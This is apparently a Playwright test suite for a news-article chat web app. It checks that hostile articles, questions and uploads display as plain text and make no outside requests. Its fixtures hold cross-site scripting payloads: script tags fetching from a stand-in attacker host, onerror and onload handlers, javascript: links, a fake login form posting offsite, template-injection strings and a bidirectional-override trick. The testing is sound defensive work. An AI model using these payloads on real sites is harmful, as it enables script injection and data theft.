"""Articles, questions and files that mean harm, in a real browser: nothing of theirs runs."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from ui_harness import Site, ask, needs_chromium, ready, site, tab, visitor

from corpus import Paragraph, Sentence
from index import Index

pytestmark = needs_chromium

EVIL = "http://evil.example"
MARKUP = (
    f"<script>window.pwned=1;fetch('{EVIL}/s')</script>"
    f'<img src="{EVIL}/i.png" onerror="window.pwned=2">'
    f'<iframe src="{EVIL}/f"></iframe><form action="{EVIL}/p"><button>Log in</button></form>'
    f'<a href="javascript:window.pwned=3">click</a><svg onload="window.pwned=4"></svg>'
    f"![]({EVIL}/m.png) [x](javascript:window.pwned=5) ${{window.pwned=6}} {{{{constructor}}}}"
)
HOSTILE = json.dumps(
    {
        "title": f"The zeppelin report {MARKUP}",
        "publisher": f"Sky News {MARKUP}",
        "date": "2024-03-01",
        "url": "javascript:window.pwned=7",
        "text": f"The zeppelin Aurora carries 40 passengers {MARKUP} according to its captain.\n\n"
        "The harbour inspector said that the zeppelin \u202egnippilf si txet\u202c was late.",
    }
)
PLAIN = """\
---
title: The rowers and the harbour
publisher: The Example Courier
date: 2024-05-02
url: https://courier.example/zeppelin?a=1&b="2"
---
The mayor said that 41 members of the Norbay Rowers were arrested at the harbour.
"""
OTHER = """\
---
title: Another count of the rowers
publisher: The Second Gazette
date: 2025-01-09
---
According to the police, 52 members of the Norbay Rowers were arrested at the harbour.
"""


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    folder = tmp_path_factory.mktemp("hostile")
    articles = folder / "articles"
    articles.mkdir()
    (articles / "hostile.jsonl").write_text(HOSTILE, encoding="utf-8")
    (articles / "plain.md").write_text(PLAIN, encoding="utf-8")
    (articles / "other.md").write_text(OTHER, encoding="utf-8")
    with Index.create(folder / "index") as index:
        assert not index.add(articles).failed
    with site(folder / "index") as running:
        yield running


@pytest.fixture
def page(browser: Any, served: Site) -> Iterator[Any]:
    with visitor(browser, served) as (opened, seen):
        yield opened
        opened.evaluate("new Promise((done) => requestAnimationFrame(() => setTimeout(done, 0)))")
        assert opened.evaluate("window.pwned") is None
        assert seen.strangers(served.address) == []
        assert seen.dialogs == []
        assert seen.errors == []
        inside = "#pd-thread, #pd-articles, #pd-timeline, #pd-panel"
        found = "script, iframe, form, object, embed, svg, img, [onerror], [onload]"
        assert opened.evaluate(
            f"[...document.querySelectorAll('{inside}')]"
            f".flatMap(e => [...e.querySelectorAll('{found}')]).length"
        ) == 0  # fmt: skip


def test_hostile_articles_are_only_words(page: Any) -> None:
    turn = ask(page, "How many passengers does the zeppelin Aurora carry?")
    assert "<script>window.pwned=1" in turn.inner_text()
    turn.locator(".pd-cite").first.hover()
    page.get_by_role("tooltip").wait_for()
    turn.locator(".pd-cite").first.click()
    page.locator("#pd-quote").wait_for()
    assert "onerror" in page.locator("#pd-panel").inner_text()
    assert page.locator("#pd-panel a").count() == 0
    page.keyboard.press("Escape")
    tab(page, "Articles")
    page.locator("#pd-articles .pd-title").first.wait_for()
    page.locator("#pd-articles .pd-remove").first.click()
    page.get_by_role("button", name="Keep it").click()
    tab(page, "Timeline")
    page.locator("#pd-timeline .pd-title", has_text="script").first.click()
    page.locator("#pd-panel-title").wait_for()
    tab(page, "Chat")
    page.locator("#pd-close").click()
    page.get_by_role("button", name="Limit articles").click()
    page.locator("#pd-publishers input").click()
    page.get_by_role("option").first.wait_for()


def test_a_hostile_question_is_only_words_also_after_a_reload(page: Any) -> None:
    turn = ask(page, f"Does the zeppelin carry {MARKUP} passengers?")
    assert "<iframe" in turn.locator(".pd-question").inner_text()
    page.reload()
    ready(page)
    assert "<iframe" in page.locator("#pd-thread .pd-question").inner_text()


def test_text_can_not_turn_round(page: Any) -> None:
    turn = ask(page, "What did the harbour inspector say about the zeppelin?")
    turn.locator(".pd-cite").first.click()
    page.locator("#pd-quote").wait_for()
    assert "\u202e" not in page.content()
    assert "\ufffd" in page.locator("#pd-quote").inner_text()


def test_links_lead_to_the_web_only_and_tell_nothing(page: Any) -> None:
    tab(page, "Articles")
    page.get_by_role("button", name="The rowers and the harbour", exact=True).click()
    link = page.get_by_role("link", name="Open the original")
    link.wait_for()
    assert link.get_attribute("href") == 'https://courier.example/zeppelin?a=1&b="2"'
    assert link.get_attribute("rel") == "noopener noreferrer nofollow"


def test_differing_sources_stand_in_a_box(page: Any) -> None:
    turn = ask(page, "How many members of the Norbay Rowers were arrested at the harbour?")
    box = turn.get_by_role("region", name="The sources differ")
    text = box.inner_text()
    for words in (
        "41",
        "52",
        "The Example Courier",
        "The Second Gazette",
        "2 May 2024",
        "9 January 2025",
    ):
        assert words in text
    cells = [cell.bounding_box() for cell in box.locator("li").all()]
    assert cells[0]["y"] == cells[1]["y"]
    box.locator(".pd-cite").first.click()
    page.locator("#pd-quote").wait_for()
    assert page.locator("#pd-quote").inner_text().count("members of the Norbay Rowers") == 1


def test_a_line_of_five_megabytes_can_be_opened(
    page: Any, served: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = "The ballad. " + "la" * 2_500_000
    paragraph = Paragraph(1, 0, len(text), None, (Sentence(0, len(text)),))
    known = served.library.articles()[0].id
    long = replace(served.library.article(known), text=text, paragraphs=(paragraph,))
    monkeypatch.setattr(served.library, "article", lambda wanted: long)
    tab(page, "Articles")
    page.locator("#pd-articles .pd-title").first.click()
    page.get_by_text("This article has 5,000,012 characters").wait_for()
    assert page.evaluate("document.documentElement.scrollWidth") <= 1280


def test_files_are_added_with_errors_in_words_removed_and_brought_back(
    page: Any, served: Site, tmp_path: Path
) -> None:
    good = tmp_path / "good.md"
    good.write_text(
        "---\ntitle: The lighthouse of Farholm\npublisher: Farholm Post\n---\n"
        "The lighthouse of Farholm was built in 1871 by Ada Quist.\n"
    )
    bad = tmp_path / "bad.pdf"
    bad.write_bytes(b"%PDF-1.4 this is no document")
    wrong = tmp_path / "song.mp3"
    wrong.write_bytes(b"ID3")
    tab(page, "Articles")
    page.locator("#pd-drop input[type=file]").set_input_files([good, bad, wrong])
    results = page.locator("#pd-added")
    results.get_by_text("1 of 3 files added").wait_for()
    assert "good.md: added" in results.inner_text()
    assert "song.mp3: This kind of file is not read" in results.inner_text()
    assert "bad.pdf" in results.inner_text()
    assert str(served.settings.index) not in page.content()
    listed = page.locator("#pd-articles")
    listed.get_by_text("The lighthouse of Farholm").wait_for()

    tab(page, "Chat")
    turn = ask(page, "Who built the lighthouse of Farholm?")
    assert "Ada Quist" in turn.inner_text()
    turn.locator(".pd-cite").first.click()
    page.locator("#pd-quote").wait_for()
    page.keyboard.press("Escape")

    tab(page, "Articles")
    page.get_by_label("Filter").fill("lighthouse")
    listed.get_by_text("1 of 4 articles").wait_for()
    listed.get_by_role("button", name="Remove The lighthouse").click()
    page.get_by_role("dialog").get_by_role("button", name="Remove").click()
    page.get_by_text("Removed The lighthouse of Farholm").wait_for()
    page.get_by_label("Filter").fill("")
    listed.get_by_text("3 of 3 articles").wait_for()
    tab(page, "Chat")
    page.locator("#pd-thread .pd-cite").first.click()
    page.get_by_text("it may have been removed").wait_for()
    page.keyboard.press("Escape")
    tab(page, "Articles")
    page.get_by_role("button", name="Undo").click()
    page.get_by_text("The article is back").wait_for()
    listed.get_by_text("4 of 4 articles").wait_for()
    tab(page, "Chat")
    assert "Ada Quist" in ask(page, "Who built the lighthouse of Farholm?").inner_text()


def test_the_list_can_be_sorted(page: Any) -> None:
    tab(page, "Articles")
    titles = page.locator("#pd-articles .pd-title")
    page.get_by_text("Another count of the rowers").first.wait_for()
    assert titles.first.inner_text() == "Another count of the rowers"
    page.get_by_label("Sort").click()
    page.get_by_role("option", name="Oldest first").click()
    page.wait_for_function(
        "document.querySelector('#pd-articles .pd-title').innerText.includes('script')"
    )


def test_the_sign_in_page_calls_nobody_either(browser: Any, served: Site) -> None:
    serving = replace(served.serving, auth=("ann", "secret"))
    with site(served.settings.index, serving) as locked:
        page = browser.new_page()
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        page.goto(locked.address)
        page.get_by_label("username").fill("ann")
        page.get_by_label("password").fill("secret")
        page.get_by_role("button", name="Login").click()
        ready(page)
        assert ask(page, "What did the harbour inspector say?").is_visible()
        assert [
            url for url in asked if not url.startswith((locked.address, "data:", "blob:"))
        ] == []
        page.close()
